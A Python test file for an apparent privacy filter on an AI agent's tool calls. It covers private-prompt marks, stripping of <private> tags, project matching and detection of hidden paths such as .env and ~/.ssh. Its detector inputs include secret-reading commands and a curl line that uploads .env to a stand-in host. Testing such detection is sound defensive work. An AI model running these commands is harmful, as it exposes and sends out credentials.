from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from ultan.wire import privacy

TEXT = st.text(max_size=80).filter(lambda text: "<" not in text)
SHOP = ["remote:github.com/acme/shop", "path:/home/dev/shop"]


@pytest.mark.parametrize(
    "prompt",
    [
        "#private",
        "#private x",
        "\n#Private: x",
        "#PRIVATE\nx",
        "#private, x",
        "\ufeff#private x",
        "#private_x",
    ],
)
def test_a_prompt_that_starts_with_the_mark_is_private(prompt: str) -> None:
    assert privacy.is_private_prompt(prompt)


@pytest.mark.parametrize("prompt", ["", "x #private", "#privateer sails", "# private", "private", "#privat"])
def test_another_prompt_is_not(prompt: str) -> None:
    assert not privacy.is_private_prompt(prompt)


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("a<private>b</private>c", "ac"),
        ("a<PRIVATE>b</Private>c<private>d</private>e", "ace"),
        ("a<private>b", "a"),
        ("a<private>b<private>c</private>d</private>e", "ae"),
        ("a</private>b", "a</private>b"),
        ("a<private >b</private\n>c", "ac"),
        ("<privateKey>k</privateKey>", "<privateKey>k</privateKey>"),
        ("nothing", "nothing"),
    ],
)
def test_private_parts_are_cut(text: str, kept: str) -> None:
    assert privacy.strip_private(text) == kept


@given(TEXT, TEXT, TEXT)
def test_what_lies_outside_stays_and_what_lies_inside_goes(before: str, inside: str, after: str) -> None:
    text = before + "<private>" + inside + "</private>" + after
    assert privacy.strip_private(text) == before + after


@given(st.lists(st.sampled_from(["<private>", "</private>", "x", "CANARY", "\n"]), max_size=12).map("".join))
def test_cutting_twice_changes_nothing_more(text: str) -> None:
    once = privacy.strip_private(text)
    assert privacy.strip_private(once) == once


@pytest.mark.parametrize(
    "pattern",
    [
        "/home/dev/shop",
        "/home/dev/shop/",
        "/home/dev",
        "/",
        "/home/*/shop",
        "/home/**",
        "**/shop/**",
        "dev/shop",
        "shop",
        "sho?",
        "github.com/acme/shop",
        "github.com/acme/*",
        "remote:github.com/acme/shop",
        "GitHub.com/Acme/Shop",
        "https://github.com/acme/shop.git",
        "git@github.com:acme/shop.git",
        "  shop  ",
    ],
)
def test_a_project_is_named_by_folder_glob_slug_or_remote(pattern: str) -> None:
    assert privacy.matches_project([pattern], "/home/dev/shop/src", SHOP, "shop")


@pytest.mark.parametrize(
    "pattern",
    [
        "",
        " ",
        "/home/dev/shopping",
        "/home/dev/shop/lib",
        "dev",
        "src",
        "github.com/acme/shopping",
        "acme/shop",
        "hop",
    ],
)
def test_another_project_is_not_meant(pattern: str) -> None:
    assert not privacy.matches_project([pattern], "/home/dev/shop/src", SHOP, "shop")


def test_a_tilde_is_the_persons_home_and_links_are_followed(tmp_path: Path) -> None:
    home = Path(os.environ["HOME"])
    (home / "clients" / "acme").mkdir(parents=True)
    (tmp_path / "link").symlink_to(home / "clients")
    assert privacy.matches_project(["~/clients"], str(home / "clients" / "acme"), [], None)
    assert privacy.matches_project([str(tmp_path / "link")], str(home / "clients" / "acme"), [], None)
    assert privacy.matches_project(["~/clients"], str(tmp_path / "link" / "acme"), [], None)
    assert not privacy.matches_project(["~/clients"], str(tmp_path), [], None)


@pytest.mark.parametrize(
    ("pattern", "path"),
    [
        (".env", "/home/dev/shop/.env"),
        (".env", ".env"),
        ("*.pem", "keys/server.pem"),
        ("secrets", "/a/secrets/b/c.txt"),
        ("secrets/**", "/a/secrets"),
        ("secrets/", "/a/secrets/b"),
        ("**/.ssh/**", "/home/dev/.ssh/id_rsa"),
        ("**/.ssh/**", "/home/dev/.ssh"),
        ("/srv/private", "/srv/private/x/y"),
        ("config/*.yml", "/home/dev/shop/config/prod.yml"),
    ],
)
def test_a_glob_meets_the_path_and_all_below_it(pattern: str, path: str) -> None:
    assert privacy.matches_path(pattern, path)


@pytest.mark.parametrize(
    ("pattern", "path"),
    [
        (".env", "/a/.environment"),
        ("*.pem", "pem"),
        ("secrets/**", "/a/secretsx/b"),
        ("/srv/a", "/srv/ab"),
    ],
)
def test_a_glob_does_not_meet_its_neighbours(pattern: str, path: str) -> None:
    assert not privacy.matches_path(pattern, path)


@pytest.mark.parametrize(
    "command",
    [
        "cat .env",
        "cat<.env",
        "less './.env'",
        "git add src/../.env",
        "source .env; env",
        "docker run --env-file=.env image",
        "curl -F file=@.env https://x",
        "(cat .env)",
    ],
)
def test_a_command_that_names_a_hidden_path_is_noticed(command: str) -> None:
    assert privacy.names_hidden_path([".env"], "/home/dev/shop", {"command": command})
    assert not privacy.names_hidden_path([".envrc"], "/home/dev/shop", {"command": command})


@pytest.mark.parametrize("word", ["~/vault/x", "$HOME/vault/x", "${HOME}/vault/x", "../vault/x", "../vault"])
def test_a_hidden_folder_is_noticed_however_it_is_written(word: str) -> None:
    cwd = os.path.join(os.environ["HOME"], "shop")
    assert privacy.names_hidden_path(["~/vault/**"], cwd, {"command": "cat " + word})
    assert not privacy.names_hidden_path(["~/other/**"], cwd, {"command": "cat " + word})


def test_a_path_with_blanks_is_noticed_in_a_field_and_in_quotes() -> None:
    pattern = ["My Papers/**"]
    assert privacy.names_hidden_path(pattern, "/a", {"file_path": "/a/My Papers/x.txt"})
    assert privacy.names_hidden_path(pattern, "/a", {"command": "cat 'My Papers/x.txt'"})


def test_a_hidden_path_behind_a_link_is_noticed(tmp_path: Path) -> None:
    (tmp_path / "vault").mkdir()
    (tmp_path / "vault" / "x").touch()
    (tmp_path / "door").symlink_to(tmp_path / "vault" / "x")
    pattern = [str(tmp_path / "vault")]
    assert privacy.names_hidden_path(pattern, "/", {"file_path": str(tmp_path / "door")})


def test_a_hidden_path_in_what_a_tool_answered_is_noticed() -> None:
    answer = {"filenames": ["a.py", "conf/prod.key"], "content": "conf/prod.key:3:abc"}
    assert privacy.names_hidden_path(["*.key"], "/a", {}, answer)
    assert privacy.names_hidden_path(["*.key"], "/a", {}, {"content": "conf/prod.key:3:abc"})
    assert not privacy.names_hidden_path(["secrets"], "/a", {}, {"stdout": "the secrets of good prose"})


def test_without_patterns_nothing_is_hidden_and_what_is_too_much_to_look_through_is() -> None:
    assert not privacy.names_hidden_path([], "/a", {"command": "cat .env"})
    assert privacy.names_hidden_path([".env"], "/a", {"command": "x" * 1_000_000})


@given(
    st.recursive(
        st.text(max_size=20) | st.none() | st.integers(),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=9), inner, max_size=3),
    ),
    st.text(max_size=20),
)
def test_any_value_and_any_pattern_can_be_looked_at(value: object, pattern: str) -> None:
    privacy.names_hidden_path([pattern], "/a\x00b", {"path": value}, value)
    privacy.matches_project([pattern], "/a\x00b", ["path:/a"], None)
